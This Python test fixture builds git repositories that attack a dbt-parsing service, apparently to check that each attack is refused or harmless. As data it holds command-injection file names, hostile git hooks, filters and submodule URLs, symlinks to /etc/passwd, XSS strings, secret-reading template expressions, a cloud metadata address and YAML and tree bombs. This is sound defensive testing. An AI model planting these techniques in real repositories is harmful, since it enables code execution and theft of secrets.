"""Repositories that want something else than to be read: each attack once, built by real git.

In a text, MARKER is the file that an attack makes when it runs, OUTSIDE a folder that is none of the
project's, and PORT that of a server on this machine.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import indent

from tests.fakes.git_remote import Origin

PROJECT = "name: museum\nversion: '1.0'\nprofile: museum\n"
# What must not get out: in the worker's environment, in a file of this machine, in another project.
CANARY = "canary-4711"
Files = Mapping[str, str | bytes]


@dataclass(frozen=True)
class Exhibit:
    """A commit, by its files and by what files cannot say; `code` and `words` are those of the refusal."""

    name: str
    code: str = ""
    words: str = ""
    files: Files = field(default_factory=dict)
    also: Callable[[Origin], str | None] = lambda _origin: None

    def __str__(self) -> str:
        return self.name

    def write(self, folder: Path, **places: object) -> Path:
        """Its files, in a folder."""
        ordinary = {"dbt_project.yml": PROJECT, "models/one.sql": "select 1 as id\n"}
        for name, content in {**ordinary, **self.files}.items():
            if isinstance(content, str):
                for word, place in places.items():
                    content = content.replace(word, str(place))
                content = content.encode()
            file = folder / name
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(content)
        return folder

    def commit(self, origin: Origin, **places: object) -> str:
        """Push it, in place of what is there."""
        self.write(origin.clone, **places)
        # As it lies here, whatever the attributes among the files say.
        own = origin.clone / ".git" / "info" / "attributes"
        own.parent.mkdir(exist_ok=True)
        own.write_text("* -text -ident !eol !filter !working-tree-encoding\n")
        origin.git("add", "--all")
        tree = self.also(origin) or origin.git("write-tree")
        commit = origin.git("commit-tree", "-m", self.name, tree)
        origin.git("push", "--quiet", "--force", "origin", f"{commit}:refs/heads/main")
        return commit


def _entry(origin: Origin, mode: str, path: str, oid: str) -> None:
    origin.git("update-index", "--add", "--cacheinfo", f"{mode},{oid},{path}")


def _links(origin: Origin) -> None:
    """Links to a file and to a folder of this machine, and a submodule whose address is a command."""
    for path, target in (
        ("models/passwd.sql", "/etc/passwd"),
        ("models/outside", "/etc"),
        ("macros/up", ".."),
    ):
        _entry(origin, "120000", path, origin.git("hash-object", "-w", "--stdin", stdin=target.encode()))
    _entry(origin, "160000", "vendor/module", "1" * 40)


def _odd_bytes(origin: Origin) -> None:
    """A file whose name is no text."""
    name = os.fsencode(origin.clone) + b"/models/caf\xe9.sql"
    with open(name, "wb") as file:  # noqa: PTH123 (a path of pathlib's is text)
        file.write(b"select 1 as id\n")
    origin.git("add", "--all")


def _tree_bomb(origin: Origin) -> str:
    """Ten folders that are one folder, ten levels deep: ten objects that stand for ten billion files."""
    blob = origin.git("hash-object", "-w", "--stdin", stdin=b"x")
    tree = origin.git("mktree", stdin=f"100644 blob {blob}\tf\n".encode())
    for _level in range(10):
        tree = origin.git("mktree", stdin="".join(f"040000 tree {tree}\td{n}\n" for n in range(10)).encode())
    return tree


_DOCUMENTS = f"""
version: 2
groups:
  - name: {"g" * 900}
    owner: {{name: "{"o" * 900}", email: "x@example.com"}}
models:
  - name: one
    description: "a\\0b<script>alert('pwn')</script>"
    config:
      meta: {{much: 1e999, less: -.inf, none: .nan, "{"k" * 900}": [1]}}
      tags: ["{"t" * 900}", "--select"]
      group: {"g" * 900}
    columns:
      - {{name: {"c" * 900}, description: "{{{{ env_var('CANARY', 'nothing') }}}}", data_type: "{"d" * 900}"}}
      - {{name: {"c" * 900}x}}
  - name: asks
    description: "{{{{ target.name }}}} {{{{ env_var('HOME') }}}} {{{{ lipsum.__globals__ }}}}"
exposures:
  - name: {"e" * 240}
    label: "<img src=x onerror=alert('pwn')>"
    type: dashboard
    url: "javascript:alert('pwn')"
    owner: {{name: "</td><script>alert('pwn')</script>", email: x@example.com}}
    depends_on: [ref('one')]
"""
# All that dbt reads without harm, in one project: it costs one parse.
HARMLESS = Exhibit(
    "what is read and does nothing",
    files={
        "dbt_project.yml": PROJECT
        + """
flags: {use_v2_parser: true, v2_parser: "sh -c 'touch MARKER'", send_anonymous_usage_stats: true}
log-path: OUTSIDE/logs
target-path: OUTSIDE/target
on-run-start: ["copy (select 1) to 'MARKER'", "{{ run_query('create table ran (x int)') }}"]
on-run-end: "copy (select 1) to 'MARKER'"
models: {museum: {+pre-hook: "copy (select 1) to 'MARKER'", +post-hook: "install httpfs"}}
""",
        ".env": "DBT_ENGINE_USE_V2_PARSER=1\nDBT_ENGINE_V2_PARSER=sh -c 'touch MARKER'\nDBT_TARGET=wrong\n",
        "models/.env": "DBT_USE_V2_PARSER=1\nDBT_V2_PARSER=sh -c 'touch MARKER'\nPYTHONSTARTUP=MARKER.py\n",
        "profiles.yml": "museum: {target: wrong, outputs: {wrong: {type: duckdb, path: OUTSIDE/wrong.duckdb}}}\n",
        ".gitmodules": '[submodule "m"]\n\tpath = vendor/module\n\turl = ext::touch MARKER\n\tupdate = !touch MARKER\n',
        ".gitattributes": (
            "*.sql filter=run diff=run text eol=crlf ident\nmodels/encoded.sql working-tree-encoding=UTF-16\n"
        ),
        # A bare repository at the top: git, started here, would take its settings.
        "HEAD": "ref: refs/heads/main\n",
        "config": '[core]\n\tfsmonitor = "touch MARKER"\n\thooksPath = hooks\n[filter "run"]\n\tsmudge = touch MARKER\n',
        "objects/info/x": "",
        "refs/x": "",
        "hooks/post-checkout": "#!/bin/sh\ntouch MARKER\n",
        "sitecustomize.py": "open('MARKER', 'w')\n",
        "dbt_plugin.py": "open('MARKER', 'w')\n",
        "models/encoded.sql": "select '$Id$' as id -- é\n",
        "models/asks.sql": (
            'select \'{{ env_var("CANARY", "nothing") }}\' as a, \'{{ env_var("HOME") }}\' as b\n'
            "{% if not execute %}{{ run_query('create table ran (x int)') }}{% endif %}"
            "{{ run_query(\"copy (select 1) to 'MARKER'\") }}"
        ),
        "models/runs.py": (
            "import os\n\nos.system('touch MARKER')\n\n\n"
            "def model(dbt, session):\n    os.system('touch MARKER')\n    return dbt.ref('one')\n"
        ),
        "macros/own.sql": (
            "{% macro generate_schema_name(name, node) %}{{ env_var('CANARY', 'public') }}{% endmacro %}\n"
            "{% macro ref(name) %}{% do run_query(\"copy (select 1) to 'MARKER'\") %}"
            "{% do return(builtins.ref(name)) %}{% endmacro %}\n"
            "{% macro duckdb__get_catalog(x, y) %}{% do run_query('attach \"OUTSIDE/x\"') %}{% endmacro %}\n"
        ),
        "models/documents.yml": _DOCUMENTS,
        "models/-x.sql": "select 1 as id\n",
        "models/--target=wrong.sql": "select 1 as id\n",
        "models/line\nbreak.sql": "select 1 as id\n",
        "models/case.sql": "select 1 as id\n",
        "models/CASE.sql": "select 2 as id\n",
        "models/$(touch${IFS}here).sql": "select 1 as id\n",
    },
    also=_links,
)

_ONE_PACKAGE = {
    "packages.yml": "packages:\n  - local: vendor/shared\n",
    "vendor/shared/dbt_project.yml": "name: shared\nversion: '1.0'\n",
}
_BOMB = "".join(
    f"  {name}: &{name} [{', '.join([f'*{below}'] * 10)}]\n"
    for below, name in zip("abcdefgh", "bcdefghi", strict=True)
)
BOMB = f"x:\n  a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n{_BOMB}"

# Refused before dbt is started.
REFUSED = (
    Exhibit(
        "models read from elsewhere",
        "dbt-path-outside",
        "model-paths in dbt_project.yml",
        {"dbt_project.yml": f"{PROJECT}model-paths: [models, OUTSIDE]\n"},
    ),
    Exhibit(
        "docs read from above",
        "dbt-path-outside",
        "../..",
        {"dbt_project.yml": f"{PROJECT}docs-paths: ['../..']\n"},
    ),
    Exhibit(
        "seeds read from where a template says",
        "dbt-path-outside",
        "without a template",
        {"dbt_project.yml": f"{PROJECT}seed-paths: [\"{{{{ '/e' ~ 'tc' }}}}\"]\n"},
    ),
    Exhibit(
        "macros read from where an alias says",
        "dbt-path-outside",
        "macro-paths",
        {"dbt_project.yml": f"{PROJECT}vars: {{x: &x [OUTSIDE]}}\nmacro-paths: *x\n"},
    ),
    Exhibit(
        "a home folder",
        "dbt-path-outside",
        "~root",
        {"dbt_project.yml": f"{PROJECT}test-paths: [~root]\n"},
    ),
    Exhibit(
        # dbt empties this folder before it fills it.
        "packages installed over another folder",
        "dbt-path-outside",
        "packages-install-path",
        {"dbt_project.yml": f"{PROJECT}packages-install-path: OUTSIDE\n", **_ONE_PACKAGE},
    ),
    Exhibit(
        "packages installed above",
        "dbt-path-outside",
        "packages-install-path",
        {"dbt_project.yml": f"{PROJECT}packages-install-path: ../\n", **_ONE_PACKAGE},
    ),
    Exhibit(
        "a package that reads from elsewhere",
        "dbt-path-outside",
        "dbt_packages/p/dbt_project.yml",
        {"dbt_packages/p/dbt_project.yml": "name: p\nmodel-paths: [OUTSIDE]\n"},
    ),
    Exhibit(
        "a package that is another project of this machine",
        "dbt-package-refused",
        "not inside the repository",
        {"packages.yml": "packages:\n  - local: OUTSIDE\n"},
    ),
    Exhibit(
        "a package at a command",
        "dbt-package-refused",
        "ext::touch",
        {"packages.yml": "packages:\n  - git: ext::touch MARKER\n    revision: main\n"},
    ),
    Exhibit(
        "a package in a private network",
        "dbt-package-refused",
        "BISYNC_PRIVATE_REMOTES",
        {"dependencies.yml": "packages:\n  - git: https://10.1.2.3/x.git\n    revision: main\n"},
    ),
    Exhibit(
        "a package from a cloud's metadata, by its lock file",
        "dbt-package-refused",
        "169.254.169.254",
        {
            "packages.yml": "packages:\n  - package: dbt-labs/dbt_utils\n    version: 1.3.0\n",
            "package-lock.yml": (
                "packages:\n  - {tarball: 'https://169.254.169.254/x', name: dbt_utils}\nsha1_hash: x\n"
            ),
        },
    ),
    Exhibit(
        # packages.yml may read variables that hold secrets, and send them along.
        "a package whose address asks for the warehouse's password",
        "dbt-package-refused",
        "a template",
        {
            "packages.yml": (
                "packages:\n"
                "  - git: \"http://127.0.0.1:PORT/{{ env_var('DBT_ENV_SECRET_BISYNC_PASSWORD') }}\"\n"
                "    revision: main\n"
            )
        },
    ),
    Exhibit(
        "aliases that multiply in the entry file",
        "dbt-syntax",
        "multiply",
        {"dbt_project.yml": PROJECT + BOMB},
    ),
    Exhibit(
        "levels without end", "dbt-syntax", "levels", {"dbt_project.yml": PROJECT + "vars: " + "[" * 5000}
    ),
    Exhibit("a tree of ten billion files", "git-too-large", "git ls-tree", also=_tree_bomb),
    Exhibit(
        "a file that is small while it is packed",
        "git-too-large",
        "MB is the most",
        {"big.csv": bytes(9_000_000)},
    ),
)

# Each would go on for hours.
ENDLESS = (
    Exhibit(
        "a label that loops",
        "dbt-parse-timeout",
        "Look for a loop",
        {
            "models/x.yml": (
                'exposures:\n  - name: x\n    type: dashboard\n    owner: {name: x}\n    label: "'
                '{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"\n'
            )
        },
    ),
    Exhibit(
        "aliases that multiply",
        "dbt-parse-timeout",
        "YAML aliases",
        {"models/x.yml": f"models:\n  - name: one\n    config:\n      meta:\n{indent(BOMB, ' ' * 8)}"},
    ),
)

GREEDY = Exhibit(
    "a text of eight gigabytes",
    "dbt-outgrown",
    "BISYNC_PARSE_MEMORY_MB",
    {"models/x.yml": "models:\n  - {name: one, description: \"{{ 'x' * 8000000000 }}\"}\n"},
)
NO_NAME = Exhibit("a name that is no text", "dbt-failed", "surrogates not allowed", also=_odd_bytes)


def outside(folder: Path) -> Path:
    """A folder that is none of the project's: what it holds must stay, and stay there."""
    (folder / "models").mkdir(parents=True)
    (folder / "dbt_project.yml").write_text("name: other\nversion: '1.0'\nprofile: other\n")
    for name in ("other.sql", "models/other.sql", "other.md", "other.csv"):
        (folder / name).write_text(f"select '{CANARY}' as secret\n")
    return folder
